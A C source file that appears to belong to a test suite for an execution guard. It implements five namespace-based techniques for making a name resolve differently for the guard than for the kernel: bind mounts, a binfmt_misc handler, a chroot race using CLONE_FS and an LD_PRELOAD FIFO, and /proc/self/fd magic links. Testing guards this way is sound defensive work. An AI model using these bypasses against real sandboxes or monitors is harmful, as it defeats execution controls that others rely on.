/*
 * namespaces - make a name mean one thing to the guard and another to the
 * kernel, as root of a user namespace of one's own.  Rows R3, S8, S9, S10, L6.
 *
 * usage: ESCAPE_MARK=FILE namespaces WAY ARG...
 *
 *	cold TOOL LOADER PROGRAM
 *			TOOL is bound over LOADER: PROGRAM is loaded by it
 *	warm TOOL LOADER PROGRAM
 *			and was asked for just before, under its own name
 *	binfmt HANDLER SCRIPT
 *			a binfmt_misc of the namespace gives scripts to HANDLER;
 *			SCRIPT is started where nothing was mounted
 *	chroot JAIL SCRIPT
 *			the interpreter of SCRIPT waits before it opens it, and
 *			its root becomes JAIL meanwhile: by CLONE_FS it is ours
 *	magic SHELL SCRIPT LINK PROGRAM
 *			LINK leads to SCRIPT, and SCRIPT to SHELL, by links of
 *			/proc that lead each process to something of its own;
 *			PROGRAM is started
 */
#include <poll.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/syscall.h>

#include "userns.h"

#define SCRIPT_FD 207
#define SHELL_FD  208 /* SCRIPT begins with #!/proc/self/fd/208 */
#define PATIENCE  500 /* looks, 10 ms each */
#define FIFO      "/home/alice/fifo"

static void
run(char *path)
{
	char *words[] = { path, NULL };

	(void)execv(path, words);
	exec_failed();
}

/* arg: TOOL LOADER PROGRAM */
static void
way_cold(char **arg)
{
	become_root(CLONE_NEWUSER | CLONE_NEWNS);
	if (mount(arg[0], arg[1], NULL, MS_BIND, NULL) < 0)
		untried("bind");
	run(arg[2]);
}

static void
way_warm(char **arg)
{
	pid_t child;

	become_root(CLONE_NEWUSER | CLONE_NEWNS);
	if (mount(arg[0], arg[1], NULL, MS_BIND, NULL) < 0)
		untried("bind");
	child = fork();
	if (child == 0)
		run(arg[0]);
	(void)end_of(child);
	run(arg[2]);
}

/* In a mount namespace of its own; stays as long as its parent does. */
static void
register_handler(const char *handler, int done)
{
	char words[512];

	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	(void)alarm(30);
	if (unshare(CLONE_NEWNS) < 0 ||
	    mount("binfmt_misc", "/mnt", "binfmt_misc", 0, NULL) < 0)
		untried("binfmt_misc");
	(void)snprintf(words, sizeof(words), ":mine:M::#!::%s:", handler);
	put("/mnt/register", words);
	(void)!write(done, "x", 1);
	for (;;)
		(void)pause();
}

/* arg: HANDLER SCRIPT */
static void
way_binfmt(char **arg)
{
	int ends[2];
	char byte;
	pid_t child;

	become_root(CLONE_NEWUSER);
	if (pipe2(ends, O_CLOEXEC) < 0)
		untried("pipe");
	child = fork();
	if (child == 0)
		register_handler(arg[0], ends[1]);
	(void)close(ends[1]);
	if (child < 0 || read(ends[0], &byte, 1) != 1)
		_exit(ATTACK_UNTRIED);
	run(arg[1]);
}

/* The other end of FIFO, once a child reads from it; -1: it ended instead. */
static int
wait_for_reader(pid_t child)
{
	for (int looks = 0; looks < PATIENCE; looks++) {
		siginfo_t ended = { 0 };
		int fd = open(FIFO, O_WRONLY | O_NONBLOCK | O_CLOEXEC);

		if (fd >= 0)
			return fd;
		if (waitid(P_PID, (id_t)child, &ended,
			WEXITED | WNOHANG | WNOWAIT) == 0 &&
		    ended.si_pid == child)
			return -1;
		(void)poll(NULL, 0, 10);
	}
	errno = ETIMEDOUT;
	untried("fifo");
}

/* arg: JAIL SCRIPT.  The loader of the interpreter opens what LD_PRELOAD
 * names, a FIFO, and then reads it: that is our time. */
static void
way_chroot(char **arg)
{
	pid_t child;
	int fd;

	become_root(CLONE_NEWUSER);
	(void)unlink(FIFO);
	if (mkfifo(FIFO, 0600) < 0)
		untried("mkfifo");
	child = (pid_t)syscall(SYS_clone, CLONE_FS | SIGCHLD, 0, 0, 0, 0);
	if (child == 0) {
		(void)setenv("LD_PRELOAD", FIFO, 1);
		run(arg[1]);
	}
	fd = wait_for_reader(child);
	if (fd >= 0 &&
	    (chroot(arg[0]) < 0 || write(fd, "x", 1) != 1 || close(fd) < 0))
		untried("chroot");
	_exit(end_of(child));
}

/* arg: SHELL SCRIPT LINK PROGRAM */
static void
way_magic(char **arg)
{
	char folder[256];

	if (dup2(open(arg[0], O_PATH | O_CLOEXEC), SHELL_FD) < 0 ||
	    dup2(open(arg[1], O_RDONLY | O_CLOEXEC), SCRIPT_FD) < 0)
		untried(arg[1]);
	(void)snprintf(folder, sizeof(folder), "%s", arg[2]);
	*strrchr(folder, '/') = '\0';
	become_root(CLONE_NEWUSER | CLONE_NEWNS);
	if (mount("tmpfs", folder, "tmpfs", 0, NULL) < 0 ||
	    symlink("/proc/self/fd/207", arg[2]) < 0)
		untried(arg[2]);
	run(arg[3]);
}

static const struct way {
	const char *name;
	int n_args;
	void (*try)(char **arg);
} ways[] = {
	{ "cold", 3, way_cold },
	{ "warm", 3, way_warm },
	{ "binfmt", 2, way_binfmt },
	{ "chroot", 2, way_chroot },
	{ "magic", 4, way_magic },
};

int
main(int argc, char **argv)
{
	for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++)
		if (argc > 1 && strcmp(argv[1], ways[i].name) == 0 &&
		    argc == ways[i].n_args + 2)
			return attack(ways[i].try, argv + 2);
	fputs("usage: namespaces WAY ARG...\n", stderr);
	return ATTACK_UNTRIED;
}
